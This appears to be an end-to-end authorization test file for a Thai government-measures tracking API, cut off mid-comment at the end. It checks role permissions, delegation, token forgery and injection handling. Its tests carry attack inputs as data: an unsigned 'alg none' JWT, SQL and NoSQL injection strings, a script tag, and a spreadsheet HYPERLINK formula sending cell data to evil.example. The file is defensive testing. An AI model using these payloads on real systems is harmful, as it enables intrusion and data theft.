/**
 * Who may do what, proved over HTTP against the real stack (API in this process, the worker as a
 * child process, a real Temporal dev server and a real database):
 *  - the matrix: every route × role × own/other unit × own/other organization, each call either
 *    let through (any answer but 401/403: calls are built so that even an allowed one changes
 *    nothing, e.g. approving a task that is still open) or refused, and nothing at all stored;
 *  - delegation as dated data: an acting head stands in while the delegation is in force;
 *  - bad input: malformed, forged and expired tokens, refresh-token reuse, throttled sign-in,
 *    role escalation and injection attempts get 400/401/403/429 and store nothing they should not.
 */
import { INestApplication } from '@nestjs/common';
import { JwtService } from '@nestjs/jwt';
import * as fs from 'node:fs';
import * as os from 'node:os';
import * as path from 'node:path';
import { DataSource } from 'typeorm';
import { bangkokDate } from '@ita/domain/access/authority';
import { AuthHeader, setUpOrganization, setUpSmallOrganization, signIn } from '../support/accounts';
import { SEED_PLAN_FILE } from '../support/seed-plan';
import { Stack, startStack } from '../support/stack';
import { eventually, rawBody } from '../support/wait';

const JWT_SECRET = 'authorization-e2e-secret-0123456789abcdef';
const ORG = '/api/organizations/TCEB';
const M01 = `${ORG}/plans/2565/measures/M01-I7`;
const TASK = `${M01}/tasks/Q1-S1-PLAN_BUDGET`;
const PDF = Buffer.from('%PDF-1.7\nหลักฐาน\n%%EOF\n');

/** The people of the matrix: the seed organization's, and another organization's. */
const USERS = {
  pbStaff: 'tceb.plan-budget.staff',
  pbHead: 'tceb.plan-budget.head',
  hrStaff: 'tceb.hr.staff',
  hrHead: 'tceb.hr.head',
  deputy: 'tceb.deputy',
  director: 'tceb.director',
  auditor: 'tceb.auditor',
  planner: 'tceb.planner',
  otherHead: 'test.plan-budget.head',
  otherDirector: 'test.director',
  otherAuditor: 'test.auditor',
  otherPlanner: 'test.planner',
} as const;
type Who = keyof typeof USERS | 'anonymous';
const ALL: Who[] = [...(Object.keys(USERS) as Who[]), 'anonymous'];
const TCEB: Who[] = ['pbStaff', 'pbHead', 'hrStaff', 'hrHead', 'deputy', 'director', 'auditor', 'planner'];
const SIGNED_IN = ALL.filter((w) => w !== 'anonymous');

interface Case {
  method: 'get' | 'post' | 'put' | 'delete';
  /** The route as the router knows it, and the concrete URL called. */
  route: string;
  url: string;
  body?: unknown;
  raw?: { type: string; bytes: Buffer };
  /** Who gets through; everyone else signed in gets 403 (or 404 for another organization's file), the anonymous 401. */
  allowed: Who[];
}

describe('authorization (e2e)', () => {
  let stack: Stack;
  let app: INestApplication;
  let http: Stack['http'];
  let dataSource: DataSource;
  let headers: Record<Exclude<Who, 'anonymous'>, AuthHeader>;
  let evidenceUrl: string;
  const evidenceDir = fs.mkdtempSync(path.join(os.tmpdir(), 'ita-authz-'));

  /**
   * Everything a refused call could have written: the commanded measure's rows and trail (the
   * other measures keep opening their tasks on their own timers), and the organization-wide tables.
   */
  const snapshot = async () => {
    const n = async (sql: string) => Number((await dataSource.query(sql, ['measure/TCEB/2565/M01-I7']))[0].n);
    return {
      audit: await n("SELECT COUNT(*) AS n FROM audit_entry WHERE workflow_id IN (?, 'organization/TCEB')"),
      tasks: await dataSource.query(
        "SELECT task_key, status, version FROM task WHERE workflow_id = 'measure/TCEB/2565/M01-I7' ORDER BY id",
      ),
      reports: await n('SELECT COUNT(*) AS n FROM report WHERE workflow_id = ?'),
      ...Object.fromEntries(
        await Promise.all(
          [
            'delegation',
            'evidence_file',
            'plan',
            'plan_draft',
            'user_account',
            'refresh_token',
            'calendar_feed_token',
          ].map(async (t) => [t, Number((await dataSource.query(`SELECT COUNT(*) AS n FROM ${t}`))[0].n)]),
        ),
      ),
    };
  };
  const call = (c: Pick<Case, 'method' | 'url' | 'body' | 'raw'>, who: Who) => {
    let r = http[c.method](c.url);
    if (who !== 'anonymous') r = r.set(headers[who]);
    if (c.raw) return r.set('Content-Type', c.raw.type).set('X-File-Name', 'x.pdf').send(c.raw.bytes);
    return c.method === 'get' || c.method === 'delete' ? r : r.send((c.body ?? {}) as object);
  };

  beforeAll(async () => {
    stack = await startStack('authz', { EVIDENCE_DIR: evidenceDir, JWT_SECRET });
    ({ app, http, dataSource } = stack);
    await setUpOrganization(app);
    await setUpSmallOrganization(app);
    headers = Object.fromEntries(
      await Promise.all(Object.entries(USERS).map(async ([k, u]) => [k, await signIn(http, u)])),
    ) as typeof headers;
    stack.startWorker();
    // A long first quarter starting now: Q1's tasks are open for the whole test.
    await http
      .post(`${ORG}/plans/2565/activate`)
      .set(headers.planner)
      .send({ calendar: { quarterSeconds: 3600 } })
      .expect(200);
    await eventually(
      async () => {
        const { body } = await http
          .get(`${ORG}/units/PLAN_BUDGET/inbox?measure=M01-I7&quarter=1`)
          .set(headers.pbHead)
          .expect(200);
        expect(body.total).toBe(3);
      },
      30_000,
      stack.workerLog,
    );
    evidenceUrl = (
      await http
        .post(`${ORG}/evidence`)
        .set(headers.pbStaff)
        .set('Content-Type', 'application/pdf')
        .set('X-File-Name', 'x.pdf')
        .send(PDF)
        .expect(201)
    ).body.url;
  }, 120_000);
  afterAll(async () => {
    await stack?.stop();
    fs.rmSync(evidenceDir, { recursive: true, force: true });
  });

  const members = TCEB;
  const overseers: Who[] = ['deputy', 'director', 'auditor'];
  const pbWorkers: Who[] = ['pbStaff', 'pbHead'];
  const cases = (): Case[] => [
    { method: 'get', route: '/api/auth/me', url: '/api/auth/me', allowed: SIGNED_IN },
    // Anyone signed in may have a calendar feed: asking is harmless; making one takes no fields, so
    // a field is a 400 for them (nothing made); revoking one nobody has is a 404.
    { method: 'get', route: '/api/me/calendar', url: '/api/me/calendar', allowed: SIGNED_IN },
    {
      method: 'post',
      route: '/api/me/calendar',
      url: '/api/me/calendar',
      body: { url: 'https://evil.example/feed.ics' },
      allowed: SIGNED_IN,
    },
    { method: 'post', route: '/api/me/calendar/revoke', url: '/api/me/calendar/revoke', allowed: SIGNED_IN },
    {
      method: 'post',
      route: '/api/plans/import',
      url: '/api/plans/import',
      raw: { type: 'application/octet-stream', bytes: fs.readFileSync(SEED_PLAN_FILE) },
      allowed: ['planner'],
    },
    { method: 'get', route: '/api/organizations', url: '/api/organizations', allowed: SIGNED_IN },
    {
      method: 'get',
      route: '/api/organizations/:organization/plans/:fiscalYear',
      url: `${ORG}/plans/2565`,
      allowed: members,
    },
    {
      method: 'get',
      route: '/api/organizations/:organization/plans/:fiscalYear/measures',
      url: `${ORG}/plans/2565/measures`,
      allowed: members,
    },
    {
      method: 'get',
      route: '/api/organizations/:organization/plans/:fiscalYear/measures/:code',
      url: M01,
      allowed: members,
    },
    {
      method: 'get',
      route: '/api/organizations/:organization/plans/:fiscalYear/ita',
      url: `${ORG}/plans/2565/ita`,
      allowed: members,
    },
    {
      method: 'get',
      route: '/api/organizations/:organization/plans/:fiscalYear/ita/year-over-year',
      url: `${ORG}/plans/2565/ita/year-over-year`,
      allowed: members,
    },
    {
      method: 'get',
      route: '/api/organizations/:organization/plans/:fiscalYear/ita/analysis',
      url: `${ORG}/plans/2565/ita/analysis`,
      allowed: members,
    },
    {
      method: 'get',
      route: '/api/organizations/:organization/plans/:fiscalYear/plan.xlsx',
      url: `${ORG}/plans/2565/plan.xlsx`,
      allowed: members,
    },
    {
      method: 'get',
      route: '/api/organizations/:organization/plans/:fiscalYear/ita/template.xlsx',
      url: `${ORG}/plans/2565/ita/template.xlsx`,
      allowed: members,
    },
    // An empty workbook: a 400 for those who may import.
    {
      method: 'post',
      route: '/api/organizations/:organization/plans/:fiscalYear/ita',
      url: `${ORG}/plans/2565/ita`,
      raw: { type: 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet', bytes: Buffer.alloc(0) },
      allowed: ['planner'],
    },
    {
      method: 'post',
      route: '/api/organizations/:organization/plans/:fiscalYear/activate',
      url: `${ORG}/plans/2565/activate`,
      body: { calendar: { quarterSeconds: 3600 } },
      allowed: ['planner', 'director'],
    },
    // The year is not over: a 409 (fiscalYear) for those who may close it; no measure changes.
    {
      method: 'post',
      route: '/api/organizations/:organization/plans/:fiscalYear/close',
      url: `${ORG}/plans/2565/close`,
      allowed: ['deputy', 'director'],
    },
    {
      method: 'get',
      route: '/api/organizations/:organization/plans/:fiscalYear/measures/:code/state',
      url: `${M01}/state`,
      allowed: members,
    },
    {
      method: 'get',
      route: '/api/organizations/:organization/plans/:fiscalYear/measures/:code/tasks',
      url: `${M01}/tasks`,
      allowed: members,
    },
    {
      method: 'get',
      route: '/api/organizations/:organization/plans/:fiscalYear/measures/:code/timeline',
      url: `${M01}/timeline`,
      allowed: members,
    },
    {
      method: 'get',
      route: '/api/organizations/:organization/units/:unit/inbox',
      url: `${ORG}/units/PLAN_BUDGET/inbox`,
      allowed: [...pbWorkers, ...overseers],
    },
    // A well-formed body (a malformed one is a 400 for anyone): allowed callers get past authorization
    // and are stopped by a monitoring guideline the measure does not have (400); nothing changes.
    {
      method: 'post',
      route: '/api/organizations/:organization/plans/:fiscalYear/measures/:code/tasks/:taskKey/submit',
      url: `${TASK}/submit`,
      body: {
        note: 'x',
        progress: 'done',
        evidence: [{ kind: 'link', url: 'https://example.org/x', name: 'x', guidelines: [99] }],
      },
      allowed: pbWorkers,
    },
    // The task is open, so its head's approval is a 409; the head of another unit is refused by the workflow.
    {
      method: 'post',
      route: '/api/organizations/:organization/plans/:fiscalYear/measures/:code/tasks/:taskKey/approve',
      url: `${TASK}/approve`,
      allowed: ['pbHead'],
    },
    {
      method: 'post',
      route: '/api/organizations/:organization/plans/:fiscalYear/measures/:code/tasks/:taskKey/return',
      url: `${TASK}/return`,
      body: { reason: 'ขาดหลักฐาน' },
      allowed: ['pbHead'],
    },
    { method: 'get', route: '/api/organizations/:organization/reports', url: `${ORG}/reports`, allowed: members },
    {
      method: 'get',
      route: '/api/organizations/:organization/reports',
      url: `${ORG}/reports?unit=PLAN_BUDGET`,
      allowed: [...pbWorkers, ...overseers, 'planner'],
    },
    // The report is not due yet (409) for those who may submit it.
    {
      method: 'post',
      route: '/api/organizations/:organization/plans/:fiscalYear/measures/:code/reports/:reportKey/submit',
      url: `${M01}/reports/semiannual-1/submit`,
      allowed: pbWorkers,
    },
    {
      method: 'post',
      route: '/api/organizations/:organization/plans/:fiscalYear/measures/:code/reports/:reportKey/approve',
      url: `${M01}/reports/semiannual-1/approve`,
      allowed: ['deputy', 'director'],
    },
    {
      method: 'post',
      route: '/api/organizations/:organization/plans/:fiscalYear/measures/:code/reports/:reportKey/return',
      url: `${M01}/reports/semiannual-1/return`,
      body: { comments: 'แก้ไข' },
      allowed: ['deputy', 'director'],
    },
    {
      method: 'get',
      route: '/api/organizations/:organization/escalations',
      url: `${ORG}/escalations`,
      allowed: overseers,
    },
    // No reason given: a 400 for those who may amend.
    {
      method: 'post',
      route: '/api/organizations/:organization/plans/:fiscalYear/measures/:code/amendments',
      url: `${M01}/amendments`,
      body: { change: { kind: 'remove-step', stepNumber: 1 } },
      allowed: ['planner', 'deputy', 'director'],
    },
    // An empty file: a 400 for those who may upload.
    {
      method: 'post',
      route: '/api/organizations/:organization/evidence',
      url: `${ORG}/evidence`,
      raw: { type: 'application/pdf', bytes: Buffer.alloc(0) },
      allowed: ['pbStaff', 'pbHead', 'hrStaff', 'hrHead'],
    },
    { method: 'get', route: '/api/evidence/:id', url: 'evidence', allowed: [...pbWorkers, ...overseers] },
    {
      method: 'get',
      route: '/api/organizations/:organization/audit/verify',
      url: `${ORG}/audit/verify`,
      allowed: overseers,
    },
    {
      method: 'get',
      route: '/api/organizations/:organization/audit/entries',
      url: `${ORG}/audit/entries`,
      allowed: overseers,
    },
    {
      method: 'get',
      route: '/api/organizations/:organization/audit/entries.csv',
      url: `${ORG}/audit/entries.csv`,
      allowed: overseers,
    },
    { method: 'get', route: '/api/organizations/:organization/users', url: `${ORG}/users`, allowed: members },
    {
      method: 'get',
      route: '/api/organizations/:organization/delegations',
      url: `${ORG}/delegations`,
      allowed: members,
    },
    // No such delegate: a 400 for the Director and the unit's own head; the head of another unit is refused.
    {
      method: 'post',
      route: '/api/organizations/:organization/delegations',
      url: `${ORG}/delegations`,
      body: { kind: 'unit-head', unitCode: 'PLAN_BUDGET', delegate: 'nobody', startsOn: '2026-01-01', reason: 'x' },
      allowed: ['director', 'pbHead'],
    },
    // Oversight goes to a Deputy Director only: a 400 for the Director, the one who may delegate it.
    {
      method: 'post',
      route: '/api/organizations/:organization/delegations',
      url: `${ORG}/delegations`,
      body: { kind: 'oversight', delegate: 'tceb.plan-budget.staff', startsOn: '2026-01-01', reason: 'x' },
      allowed: ['director'],
    },
    ...notificationCases(),
    // Plan drafts: the year 2599 has no stored plan to copy and draft 99999 does not exist, so those
    // allowed get a 404 (or a check that stores nothing), and nothing is written.
    ...draftCases(),
    // No such delegation: a 404 for those who may revoke.
    {
      method: 'post',
      route: '/api/organizations/:organization/delegations/:id/revoke',
      url: `${ORG}/delegations/99999/revoke`,
      allowed: ['director', 'pbHead', 'hrHead'],
    },
  ];

  it('lets every route through to exactly the people the matrix names, and stores nothing for anyone it refuses', async () => {
    const before = await snapshot();
    const outcomes: string[] = [];
    const expected: string[] = [];
    for (const c of cases()) {
      const url = c.url === 'evidence' ? evidenceUrl : c.url;
      for (const who of ALL) {
        const { status, body } = await call({ ...c, url }, who);
        const outcome =
          status === 401
            ? 'unauthenticated'
            : status === 403
              ? 'refused'
              : status === 404 && c.url === 'evidence' && body.problems?.[0]?.path === 'id' && !TCEB.includes(who)
                ? 'refused'
                : 'allowed';
        expect(status).toBeLessThan(500);
        const line = `${c.method.toUpperCase()} ${c.url.replace(/^\/api\/organizations\/TCEB/, '…')} ${who}`;
        outcomes.push(`${line} ${outcome}`);
        expected.push(
          `${line} ${who === 'anonymous' ? 'unauthenticated' : c.allowed.includes(who) ? 'allowed' : 'refused'}`,
        );
        if (status === 403)
          expect(body.problems[0].path).toMatch(
            /^(organization|organization\.code|role|actor\.unit|unit|unitCode|kind|id)$/,
          );
      }
    }
    expect(outcomes).toEqual(expected);
    expect(await snapshot()).toEqual(before);
  }, 120_000);

  it('covers every route the API serves, and every route declares who may call it', async () => {
    const served = routesOf(app).filter((r) => !r.startsWith('GET /api/docs'));
    expect(served.length).toBeGreaterThanOrEqual(cases().length - 2);
    const covered = new Set(cases().map((c) => `${c.method.toUpperCase()} ${c.route}`));
    const open = [
      'GET /api/health',
      'GET /api/health/ready',
      'POST /api/auth/login',
      'POST /api/auth/refresh',
      'POST /api/auth/logout',
      'GET /api/auth/oidc/:organization/login',
      'GET /api/auth/oidc/callback',
      // The feed's secret in the URL is its key (a 404 here: no such feed).
      'GET /api/calendar/:token.ics',
    ];
    expect(served.filter((r) => !covered.has(r) && !open.includes(r))).toEqual([]);
    for (const route of served.filter((r) => open.includes(r))) {
      const [method, url] = route.split(' ');
      const { status } = await http[method.toLowerCase() as 'get' | 'post'](url.replace(':organization', 'TCEB')).send(
        {},
      );
      expect([route, status]).not.toEqual([route, 401]);
    }
  });

  it('lets an acting unit head stand in while his delegation is in force, records it, and stops when it is revoked', async () => {
    const today = bangkokDate(Date.now());
    await http
      .post(`${TASK}/submit`)
      .set(headers.pbStaff)
      .send({ note: 'ดำเนินการแล้ว', progress: 'partly-done', evidence: [] })
      .expect(200);
    expect((await http.post(`${TASK}/approve`).set(headers.hrHead).expect(403)).body.problems[0].path).toBe(
      'actor.unit',
    );
    // The head of HR cannot name himself acting head of Planning and Budget; its own head can.
    expect(
      (
        await http
          .post(`${ORG}/delegations`)
          .set(headers.hrHead)
          .send({ kind: 'unit-head', unitCode: 'PLAN_BUDGET', delegate: 'tceb.hr.head', startsOn: today, reason: 'x' })
          .expect(403)
      ).body.problems[0].path,
    ).toBe('unitCode');
    const { body: delegation } = await http
      .post(`${ORG}/delegations`)
      .set(headers.pbHead)
      .send({
        kind: 'unit-head',
        unitCode: 'PLAN_BUDGET',
        delegate: 'tceb.hr.head',
        startsOn: today,
        endsOn: today,
        reason: 'ลาพักร้อน',
      })
      .expect(201);
    expect(delegation).toMatchObject({
      kind: 'unit-head',
      delegator: 'tceb.plan-budget.head',
      delegate: 'tceb.hr.head',
      startsOn: today,
      endsOn: today,
    });
    const { body: me } = await http.get('/api/auth/me').set(headers.hrHead).expect(200);
    expect(me.grants).toEqual([
      expect.objectContaining({ kind: 'unit-head', unitCode: 'PLAN_BUDGET', delegationId: String(delegation.id) }),
    ]);
    await http.get(`${ORG}/units/PLAN_BUDGET/inbox`).set(headers.hrHead).expect(200);

    const approved = await http.post(`${TASK}/approve`).set(headers.hrHead).expect(200);
    expect(approved.body).toMatchObject({ status: 'approved', decidedBy: 'tceb.hr.head' });
    const { body: entries } = await http
      .get(`${ORG}/audit/entries?action=task.approved&measure=M01-I7`)
      .set(headers.auditor)
      .expect(200);
    expect(entries.items[0]).toMatchObject({
      actor: { id: 'tceb.hr.head', role: 'unit-head', unit: 'HR' },
      authority: `delegation ${delegation.id} (unit-head PLAN_BUDGET) from tceb.plan-budget.head`,
    });

    // Revoked: the next approval is refused again. The delegation and its revocation are in the audit chain.
    await http.post(`${ORG}/delegations/${delegation.id}/revoke`).set(headers.hrHead).expect(403);
    await http.post(`${ORG}/delegations/${delegation.id}/revoke`).set(headers.pbHead).expect(200);
    await http.post(`${ORG}/delegations/${delegation.id}/revoke`).set(headers.pbHead).expect(409);
    const next = `${M01}/tasks/Q1-S2-PLAN_BUDGET`;
    await http
      .post(`${next}/submit`)
      .set(headers.pbStaff)
      .send({ note: 'ดำเนินการแล้ว', progress: 'partly-done', evidence: [] })
      .expect(200);
    expect((await http.post(`${next}/approve`).set(headers.hrHead).expect(403)).body.problems[0].path).toBe(
      'actor.unit',
    );
    const { body: trail } = await http.get(`${ORG}/audit/entries?action=delegation.`).set(headers.auditor).expect(200);
    expect(trail.items.map((e: any) => `${e.action} ${e.key} ${e.actor.id}`)).toEqual(
      expect.arrayContaining([
        `delegation.created ${delegation.id} tceb.plan-budget.head`,
        `delegation.revoked ${delegation.id} tceb.plan-budget.head`,
      ]),
    );
    expect((await http.get(`${ORG}/audit/verify`).set(headers.auditor).expect(200)).body).toMatchObject({ ok: true });
  });

  it('refuses malformed, forged, expired and misused tokens with 401', async () => {
    const jwt = new JwtService({ secret: JWT_SECRET });
    const { body: me } = await http.get('/api/auth/me').set(headers.pbStaff).expect(200);
    const claims = { sub: '1', usr: me.username, tv: 0, typ: 'access' };
    const good = headers.pbStaff.Authorization.slice('Bearer '.length);
    const [h, p] = good.split('.');
    const unsigned = `${Buffer.from(JSON.stringify({ alg: 'none', typ: 'JWT' })).toString('base64url')}.${p}.`;
    const tampered = `${h}.${Buffer.from(JSON.stringify({ ...JSON.parse(Buffer.from(p, 'base64url').toString()), sub: '20' })).toString('base64url')}.${good.split('.')[2]}`;
    const attempts: Array<[string, string]> = [
      ['garbage', 'Bearer not-a-token'],
      ['no scheme', good],
      ['basic', `Basic ${Buffer.from('tceb.director:ita-demo-2565').toString('base64')}`],
      ['unsigned (alg none)', `Bearer ${unsigned}`],
      ['tampered claims', `Bearer ${tampered}`],
      [
        'another key',
        `Bearer ${new JwtService({ secret: 'x'.repeat(40) }).sign(claims, { issuer: 'ita-measures', audience: 'ita-api' })}`,
      ],
      [
        'expired',
        `Bearer ${jwt.sign({ ...claims, exp: Math.floor(Date.now() / 1000) - 60 }, { issuer: 'ita-measures', audience: 'ita-api' })}`,
      ],
      ['wrong audience', `Bearer ${jwt.sign(claims, { issuer: 'ita-measures', audience: 'elsewhere' })}`],
      [
        'not an access token',
        `Bearer ${jwt.sign({ ...claims, typ: 'refresh' }, { issuer: 'ita-measures', audience: 'ita-api' })}`,
      ],
      [
        'a refresh token',
        `Bearer ${(await http.post('/api/auth/login').send({ username: 'tceb.auditor', password: 'ita-demo-2565' })).body.refreshToken}`,
      ],
    ];
    for (const [name, authorization] of attempts) {
      const { status, body } = await http.get('/api/auth/me').set('Authorization', authorization);
      expect([name, status, body.problems?.[0]?.path]).toEqual([name, 401, 'authorization']);
    }
    const expired = await http.get('/api/auth/me').set('Authorization', attempts[6][1]);
    expect(expired.body.message).toMatch(/expired/);
  });

  it('rotates refresh tokens, and ends the whole session when a spent one is presented again', async () => {
    const { body: first } = await http
      .post('/api/auth/login')
      .send({ username: 'tceb.director', password: 'ita-demo-2565' })
      .expect(200);
    const { body: second } = await http
      .post('/api/auth/refresh')
      .send({ refreshToken: first.refreshToken })
      .expect(200);
    await http.get('/api/auth/me').set('Authorization', `Bearer ${second.accessToken}`).expect(200);
    expect(
      (await http.post('/api/auth/refresh').send({ refreshToken: first.refreshToken }).expect(401)).body.message,
    ).toMatch(/already used/);
    await http.post('/api/auth/refresh').send({ refreshToken: second.refreshToken }).expect(401);
    expect((await http.post('/api/auth/refresh').send({ refreshToken: 'x' }).expect(400)).body.problems[0].path).toBe(
      'refreshToken',
    );
    const { body: third } = await http
      .post('/api/auth/login')
      .send({ username: 'tceb.director', password: 'ita-demo-2565' })
      .expect(200);
    await http.post('/api/auth/logout').send({ refreshToken: third.refreshToken }).expect(200);
    await http.post('/api/auth/refresh').send({ refreshToken: third.refreshToken }).expect(401);
  });

  it('throttles failed sign-ins per account, says when to retry, and never logs a password', async () => {
    const written: string[] = [];
    const spies = [jest.spyOn(process.stdout, 'write'), jest.spyOn(process.stderr, 'write')].map((s) =>
      s.mockImplementation((chunk: any) => {
        written.push(String(chunk));
        return true;
      }),
    );
    try {
      for (let i = 0; i < 5; i++) {
        expect(
          (
            await http
              .post('/api/auth/login')
              .send({ username: 'tceb.corp-comms.head', password: `wrong-secret-${i}` })
              .expect(401)
          ).body.problems[0].path,
        ).toBe('password');
      }
      const locked = await http
        .post('/api/auth/login')
        .send({ username: 'tceb.corp-comms.head', password: 'ita-demo-2565' })
        .expect(429);
      expect(Number(locked.headers['retry-after'])).toBeGreaterThan(0);
      expect(locked.body.problems[0].path).toBe('username');
      await http
        .post('/api/auth/login')
        .send({ username: 'tceb.corp-comms.staff', password: 'ita-demo-2565' })
        .expect(200);
      await http.post('/api/auth/login').send({ username: 'nobody.here', password: 'wrong-secret-x' }).expect(401);
    } finally {
      spies.forEach((s) => s.mockRestore());
    }
    expect(written.join('')).not.toMatch(/wrong-secret|ita-demo-2565/);
    const stored =
      JSON.stringify(await dataSource.query('SELECT * FROM user_account')) +
      JSON.stringify(await dataSource.query('SELECT * FROM login_throttle'));
    expect(stored).not.toMatch(/wrong-secret|ita-demo-2565/);
  });

  it('ignores identity claimed in the request, and refuses role escalation', async () => {
    const before = await snapshot();
    // The actor is the token's, whatever the body or headers say.
    const forged = await http
      .post(`${M01}/tasks/Q1-S3-PLAN_BUDGET/approve`)
      .set(headers.hrStaff)
      .set('X-Actor-Role', 'unit-head')
      .set('X-Actor-Unit', 'PLAN_BUDGET')
      .send({
        actor: { id: 'tceb.plan-budget.head', role: 'unit-head', unitCode: 'PLAN_BUDGET', organizationCode: 'TCEB' },
      });
    expect(forged.status).toBe(403);
    const escalations: Array<[Who, string, object]> = [
      [
        'pbStaff',
        `${ORG}/delegations`,
        {
          kind: 'unit-head',
          unitCode: 'PLAN_BUDGET',
          delegate: 'tceb.plan-budget.staff',
          startsOn: '2026-01-01',
          reason: 'ขอเป็นหัวหน้าเอง',
        },
      ],
      [
        'pbHead',
        `${ORG}/delegations`,
        { kind: 'oversight', delegate: 'tceb.deputy', startsOn: '2026-01-01', reason: 'x' },
      ],
      [
        'deputy',
        `${ORG}/delegations`,
        { kind: 'oversight', delegate: 'tceb.deputy', startsOn: '2026-01-01', reason: 'x' },
      ],
      ['auditor', `${M01}/amendments`, { change: { kind: 'remove-step', stepNumber: 1 }, reason: 'x' }],
      [
        'otherDirector',
        `${ORG}/delegations`,
        { kind: 'oversight', delegate: 'test.deputy', startsOn: '2026-01-01', reason: 'x' },
      ],
    ];
    for (const [who, url, body] of escalations)
      expect([
        who,
        (
          await http
            .post(url)
            .set(headers[who as keyof typeof headers])
            .send(body)
        ).status,
      ]).toEqual([who, 403]);
    expect(
      (
        await http
          .post(`${ORG}/delegations`)
          .set(headers.director)
          .send({ kind: 'oversight', delegate: 'tceb.auditor', startsOn: '2026-01-01', reason: 'x' })
          .expect(400)
      ).body.problems[0].path,
    ).toBe('delegate');
    expect(
      (
        await http
          .post(`${ORG}/delegations`)
          .set(headers.director)
          .send({ kind: 'oversight', delegate: 'test.deputy', startsOn: '2026-01-01', reason: 'x' })
          .expect(400)
      ).body.problems[0].path,
    ).toBe('delegate');
    expect(
      (
        await http
          .post(`${ORG}/delegations`)
          .set(headers.director)
          .send({ kind: 'oversight', delegate: 'tceb.deputy', startsOn: '2569-01-01', reason: 'x' })
          .expect(400)
      ).body.problems[0].message,
    ).toMatch(/Buddhist-era/);
    expect(await snapshot()).toEqual(before);
  });

  it('stores injection attempts as the plain text they are, refuses control characters, and keeps formulas out of the CSV', async () => {
    const before = await snapshot();
    const injections = [
      ['/api/auth/login', { username: "' OR 1=1 --", password: 'x' }, 400, 'username'],
      ['/api/auth/login', { username: 'tceb.director', password: { $ne: '' } }, 400, 'password'],
      [
        `${M01}/tasks/Q1-S3-PLAN_BUDGET/submit`,
        { note: 'ok\u0000; DROP TABLE task', progress: 'partly-done', evidence: [] },
        400,
        'note',
      ],
      [
        `${ORG}/delegations`,
        {
          kind: 'unit-head',
          unitCode: "PLAN_BUDGET' OR '1'='1",
          delegate: 'tceb.plan-budget.staff',
          startsOn: '2026-01-01',
          reason: 'x',
        },
        400,
        'unitCode',
      ],
    ] as const;
    for (const [url, body, status, field] of injections) {
      const who = url.includes('/delegations') ? headers.director : url.includes('/tasks/') ? headers.pbStaff : {};
      const response = await http.post(url).set(who).send(body);
      expect([url, response.status, response.body.problems?.[0]?.path]).toEqual([url, status, field]);
    }
    expect((await http.get(`${ORG}/units/PLAN_BUDGET'%20OR%20'1'='1/inbox`).set(headers.deputy)).status).toBe(404);
    expect(
      (await http.get(`${ORG}/audit/entries?measure=M01'%20--`).set(headers.auditor).expect(400)).body.problems[0].path,
    ).toBe('measure');
    expect(await snapshot()).toEqual(before);

    // Text that looks like SQL, HTML or a spreadsheet formula is stored and served as the text it is.
    const note = `=HYPERLINK("http://evil.example/?q="&A1,"คลิก") '; DROP TABLE task; -- <script>alert(1)</script>`;
    const { body: task } = await http
      .post(`${M01}/tasks/Q1-S3-PLAN_BUDGET/submit`)
      .set(headers.pbStaff)
      .send({ note, progress: 'partly-done', evidence: [] })
      .expect(200);
    expect(task.submission.note).toBe(note);
    expect(
      Number(
        (await dataSource.query("SELECT COUNT(*) AS n FROM task WHERE workflow_id = 'measure/TCEB/2565/M01-I7'"))[0].n,
      ),
    ).toBe(before.tasks.length);
    const listed = await http.get(`${M01}/tasks`).set(headers.auditor).expect(200);
    expect(listed.headers['content-type']).toMatch(/^application\/json/);
    expect(listed.body.find((t: any) => t.taskKey === 'Q1-S3-PLAN_BUDGET').submission.note).toBe(note);
    const csv = await http
      .get(`${ORG}/audit/entries.csv?measure=M01-I7&action=task.submitted`)
      .set(headers.auditor)
      .buffer(true)
      .parse(rawBody)
      .expect(200);
    const text = (csv.body as Buffer).toString('utf8');
    expect(text).toContain("'=HYPERLINK");
    expect(text).not.toMatch(/(^|,)"?=HYPERLINK/m);
  });
});

/** Every route the app serves, as "METHOD /path". */
/** Every route of plan drafts: planners write, the Director and the deputy holding his delegation decide, auditors read. */
function draftCases(): Case[] {
  const drafts = `${ORG}/plans/2565/drafts`;
  const route = '/api/organizations/:organization/plans/:fiscalYear/drafts';
  const readers: Who[] = ['planner', 'deputy', 'director', 'auditor'];
  const document = {
    schemaVersion: 1,
    organization: { code: 'TCEB', name: 'x' },
    fiscalYear: 2565,
    units: [],
    oversight: { title: 'x' },
    measures: [],
  };
  return [
    { method: 'get', route, url: drafts, allowed: readers },
    {
      method: 'post',
      route,
      url: `${ORG}/plans/2599/drafts`,
      body: { source: 'stored' },
      allowed: ['planner'],
    },
    {
      method: 'post',
      route: `${route}/validate`,
      url: `${drafts}/validate`,
      body: { plan: document },
      allowed: readers,
    },
    { method: 'get', route: `${route}/:draftId`, url: `${drafts}/99999`, allowed: readers },
    {
      method: 'put',
      route: `${route}/:draftId`,
      url: `${drafts}/99999`,
      body: { revision: 1, plan: document },
      allowed: ['planner'],
    },
    {
      method: 'post',
      route: `${route}/:draftId/measures/from-items`,
      url: `${drafts}/99999/measures/from-items`,
      body: { items: ['E6'] },
      allowed: ['planner'],
    },
    { method: 'get', route: `${route}/:draftId/coverage`, url: `${drafts}/99999/coverage`, allowed: readers },
    { method: 'get', route: `${route}/:draftId/unfinished`, url: `${drafts}/99999/unfinished`, allowed: readers },
    {
      method: 'post',
      route: `${route}/:draftId/carry-over`,
      url: `${drafts}/99999/carry-over`,
      body: { from: 2564, decisions: [{ measureCode: 'M01-I7', stepNumber: 1, decision: 'drop', reason: 'x' }] },
      allowed: ['planner'],
    },
    {
      method: 'post',
      route: `${route}/:draftId/ita`,
      url: `${drafts}/99999/ita`,
      raw: { type: 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet', bytes: Buffer.alloc(0) },
      allowed: ['planner'],
    },
    { method: 'get', route: `${route}/:draftId/diff`, url: `${drafts}/99999/diff`, allowed: readers },
    { method: 'post', route: `${route}/:draftId/submit`, url: `${drafts}/99999/submit`, allowed: ['planner'] },
    {
      method: 'post',
      route: `${route}/:draftId/approve`,
      url: `${drafts}/99999/approve`,
      allowed: ['deputy', 'director'],
    },
    {
      method: 'post',
      route: `${route}/:draftId/return`,
      url: `${drafts}/99999/return`,
      body: { comment: 'แก้ไข' },
      allowed: ['deputy', 'director'],
    },
    { method: 'post', route: `${route}/:draftId/discard`, url: `${drafts}/99999/discard`, allowed: ['planner'] },
  ];
}

/**
 * Notifications: everyone signed in has his own centre and preferences; the organization's settings
 * are the Director's and the planners'. Calls that would change something are built not to: a
